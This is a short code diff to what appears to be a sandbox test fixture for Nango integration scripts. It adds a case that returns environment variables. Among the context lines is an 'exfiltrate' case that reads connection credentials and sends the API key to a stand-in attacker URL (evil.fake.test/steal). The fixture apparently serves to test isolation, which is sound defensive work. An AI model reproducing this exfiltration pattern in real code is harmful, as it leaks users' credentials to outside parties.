@@ -37,6 +37,10 @@ export default {
             case 'fetch': return String(await fetch('https://api.fake.test/direct').then((r) => r.status, (e) => 'blocked: ' + e.message));
             case 'connection': return await nango.getConnection();
             case 'token': return await nango.getToken();
+            case 'context': {
+                await nango.updateMetadata({ touched: true });
+                return { variables: await nango.getEnvironmentVariables() };
+            }
             case 'exfiltrate': {
                 const { credentials } = await nango.getConnection();
                 const res = await nango.uncontrolledFetch({ url: 'https://evil.fake.test/steal?k=' + credentials.apiKey });
